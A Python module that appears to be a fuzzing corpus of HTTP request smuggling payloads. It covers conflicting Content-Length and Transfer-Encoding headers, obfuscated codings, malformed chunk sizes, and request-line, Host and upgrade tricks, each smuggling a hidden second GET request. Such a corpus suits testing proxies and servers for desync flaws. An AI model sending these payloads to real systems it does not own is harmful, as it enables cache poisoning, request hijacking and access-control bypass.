"""Requests with which front and back ends have been led apart, in the notation of RFC 9112. `{}` is the target.

What they try: two lengths, length against chunks, codings that only one side knows, white space and line ends that
one side forgives, chunk sizes and extensions, upgrades that are none, names that are nearly others.
"""

from __future__ import annotations

TARGET_SIZE = 35
_GET = b"GET {}/smuggled HTTP/1.1\r\nHost: t\r\n\r\n"
_SIZE = len(_GET) - 2 + TARGET_SIZE


def _post(*fields: bytes, body: bytes = b"", version: bytes = b"1.1") -> bytes:
    return b"\r\n".join([b"POST {} HTTP/" + version, b"Host: t", *fields, b"", b""]) + body


_CHUNKED = b"Transfer-Encoding: chunked"
_BOTH = (b"Content-Length: 6", _CHUNKED)
_UPGRADE = b"GET {} HTTP/1.1\r\nHost: t\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
_END = b"0\r\n\r\n"

CORPUS = [
    # length against chunks
    _post(*_BOTH, body=_END + b"G"),
    _post(*_BOTH[::-1], body=_END + b"G"),
    _post(b"Content-Length: 4", _CHUNKED, body=b"%x\r\n" % _SIZE + _GET + b"\r\n" + _END),
    _post(b"Content-Length: %d" % (len(_END) + _SIZE), _CHUNKED, body=_END + _GET),
    _post(b"Content-Length: 0", body=_GET),
    _post(b"Content-Length: 3", b"Content-Length: 5", body=b"abcde"),
    _post(b"Content-Length: 3", b"Content-Length: 3", body=b"abc"),
    # lengths that somebody reads otherwise
    *(
        _post(b"Content-Length:" + length, body=b"abcde" + _GET)
        for length in (
            b" 5", b"\t5\t", b" +5", b" -5", b" 05", b" 0x5", b" 5,5", b" 5, 5", b" 5 5", b" 5;", b" 5.0", b" 5e0",
            b" \xd9\xa5", b" \xc2\xa05", b" 5\x0b", b" 5\x0c", b" \x005", b"", b" 99999999999999999999",
            b" 18446744073709551621", b" 9223372036854775813", b' "5"', b"\r\n 5", b" 5\r\n\t",
        )
    ),
    # codings that only one side knows
    *(
        _post(b"Content-Length: 5", b"Transfer-Encoding:" + coding, body=_END + _GET)
        for coding in (b" xchunked", b" identity", b" chunked, identity", b" chunked-", b" gzip")
    ),
    *(
        _post(coding, body=_END + _GET)
        for coding in (
            b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked",
            b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding:\x0cchunked", b"Transfer-Encoding:\xa0chunked",
            b" Transfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked",
            b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding\r\n: chunked", b'Transfer-Encoding: "chunked"',
            b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: chunked\x00", b"Transfer-Encoding: chunk\x00ed",
            b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked, chunked",
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x", b"Transfer-Encoding: x\r\n" + _CHUNKED,
            b"Transfer-Encoding: chunked;x=y", b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,",
            b"Transfer-Encoding: cHuNkEd", b"TRANSFER-ENCODING:chunked", b"Transfer_Encoding: chunked",
            b"Transfer-Encoding:", b"Transfer-\xc3\x8bncoding: chunked", b"\xefTransfer-Encoding: chunked",
            b"Foo: bar\r\n\rTransfer-Encoding: chunked", b"Content-Encoding: chunked", b"Content_Length: 5",
            b"X:\r\nTransfer-Encoding: chunked", b"X: \r\n" + _CHUNKED, b":Transfer-Encoding: chunked",
        )
    ),
    _post(_CHUNKED, body=_END + _GET, version=b"1.0"),
    _post(_CHUNKED, b"Connection: keep-alive", body=_END + _GET, version=b"1.0"),
    # chunks
    *(
        _post(_CHUNKED, body=chunks + _GET)
        for chunks in (
            b"3\r\nabc\r\n" + _END, b"003\r\nabc\r\n" + _END, b"3;x\r\nabc\r\n" + _END,
            b'3;x="\r\n"\r\nabc\r\n' + _END,
            b"3;x\nxx\r\n4\r\nabcd\r\n" + _END, b"3\nabc\n0\n\n", b"3\rXabc\r\n" + _END, b"3 \r\nabc\r\n" + _END,
            b"3\t;x\r\nabc\r\n" + _END, b" 3\r\nabc\r\n" + _END, b"+3\r\nabc\r\n" + _END, b"0x3\r\nabc\r\n" + _END,
            b"3\r\nabc" + _END, b"3\r\nabcd\r\n" + _END, b"3\r\nab\r\n" + _END, b"-0\r\n\r\n", b"00\r\n\r\n",
            b"0\r\nX: y\r\n\r\n", b"0\r\nContent-Length: 9\r\n\r\n", b"0\r\n\r\r\n", b"0\r\n\nX", b"0\r\nX\r\n\r\n",
            b"0;\n\r\n\r\n", b"0\r\n X: y\r\n\r\n", b"FFFFFFFFFFFFFFFF\r\nabc\r\n" + _END,
            b"1" + b"0" * 16 + b"3\r\nabc",
            b"G\r\n", b"\r\n3\r\nabc\r\n" + _END, b"3\r\nabc\n" + _END, b"3\r\nabc\r\r\n" + _END,
            b"a\r\n0123456789\r\n" + _END,
        )
    ),
    # the first line
    *(
        line + b"\r\nHost: t\r\n\r\n" + _GET
        for line in (
            b"GET {}\tHTTP/1.1", b"GET\t{} HTTP/1.1", b"GET  {} HTTP/1.1", b"GET {}  HTTP/1.1", b"GET {} HTTP/1.1 ",
            b" GET {} HTTP/1.1", b"GET {} x HTTP/1.1", b"GET {} HTTP/1.1\r", b"get {} HTTP/1.1", b"GET {} http/1.1",
            b"GET {} HTTP/1.10", b"GET {} HTTP/01.1", b"GET {} HTTP/1.2", b"GET {} HTTP/2.0", b"GET {} HTTP/0.9",
            b"GET {}",
            b"GET http://t{} HTTP/1.1", b"GET http://u:80{} HTTP/1.1", b"GET HTTPS://[::1]:{} HTTP/1.1",
            b"GET http://u@t{} HTTP/1.1", b"GET http://{} HTTP/1.1", b"GET http://t?{} HTTP/1.1",
            b"GET http:{} HTTP/1.1", b"GET http://t\\@u{} HTTP/1.1", b"GET http://t#{} HTTP/1.1",
            b"GET ftp://t{} HTTP/1.1", b"OPTIONS http://t HTTP/1.1", b"GET * HTTP/1.1", b"OPTIONS *{} HTTP/1.1",
            b"head {} HTTP/1.1", b"connect t:80 HTTP/1.1", b"GET {} HTTP/1.9",
            b"GET //t{} HTTP/1.1", b"GET {}#x HTTP/1.1", b"GET {}\x00 HTTP/1.1",
            b"GET {}\xff HTTP/1.1", b"GET {}\\x HTTP/1.1", b"GET {}|{x}^` HTTP/1.1", b"GET {}?a?b#c HTTP/1.1",
            b"CONNECT t:80 HTTP/1.1", b"OPTIONS * HTTP/1.1", b"\r\nGET {} HTTP/1.1", b"\nGET {} HTTP/1.1",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET {} HTTP/1.1\nX: y", b"GET_X {} HTTP/1.1",
            b"M-SEARCH {} HTTP/1.1",
        )
    ),
    # Host
    *(
        b"GET {} HTTP/1.1\r\n" + host + b"\r\n" + _GET
        for host in (
            b"", b"Host:\r\n", b"Host: t\r\nHost: u\r\n", b"Host: t\r\nHost: t\r\n", b"Host : t\r\n",
            b"Host: t/x\r\n",
            b"Host: t, u\r\n", b"Host: t u\r\n", b"Host: t:x\r\n", b"Host: t:80\r\n", b"Host: t:\r\n",
            b"Host: t::\r\n", b"Host: [::1]:80\r\n", b"Host: [::1]:\r\n", b"Host: :\r\n",
            b"Host: @t\r\n", b"Host: t\x00\r\n", b"Host: \xff\r\n", b"X: y\r\n Host: t\r\n", b"Host: t\n\r\n",
        )
    ),
    # cookies in several lines
    *(
        b"GET {} HTTP/1.1\r\nHost: t\r\n" + cookies + b"\r\n" + _GET
        for cookies in (
            b"Cookie: a=b\r\nCookie: c=d\r\n", b"Cookie: a=b\r\nX: y\r\ncookie: tmpnb-x=y\r\n",
            b"Cookie: a=b\r\nConnection: cookie\r\nCookie:\r\n", b"Cookie: a\x0b\r\nCookie: c=d\r\n",
        )
    ),
    # upgrades, and what comes with them
    _post(b"Connection: Upgrade", b"Upgrade: websocket", b"Content-Length: 5", body=b"abcde" + _GET),
    _post(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: x", body=_GET),
    _UPGRADE + b"Sec-WebSocket-Version: 777\r\n\r\n" + _GET,
    _UPGRADE + b"Content-Length: 5\r\n\r\nabcde" + _GET,
    b"GET {} HTTP/1.0\r\nHost: t\r\nConnection: Upgrade, keep-alive\r\nUpgrade: websocket\r\n\r\n" + _GET,
    _post(b"Connection: content-length", b"Content-Length: 5", body=b"abcde" + _GET),
    _post(b"Connection: transfer-encoding", _CHUNKED, body=_END + _GET),
    _post(b"Expect: 100-continue", b"Content-Length: 5", body=b"abcde" + _GET),
    _post(b"Expect: 200-ok", b"Content-Length: 5", body=b"abcde" + _GET),
    _post(b"Content-Length: 5", b"Connection: close", body=b"abcde" + _GET),
    b"GET {} HTTP/1.1\r\nHost: t\r\nContent-Length: %d\r\n\r\n" % _SIZE + _GET,
    b"HEAD {} HTTP/1.1\r\nHost: t\r\nContent-Length: 5\r\n\r\nabcde" + _GET,
    b"GET {} HTTP/1.1\r\nHost: t\r\nX: " + b"y" * 9000 + b"\r\n\r\n" + _GET,
    b"GET {} HTTP/1.1\r\nHost: t\r\n" + b"".join(b"X%d: y\r\n" % n for n in range(200)) + b"\r\n" + _GET,
]  # fmt: skip
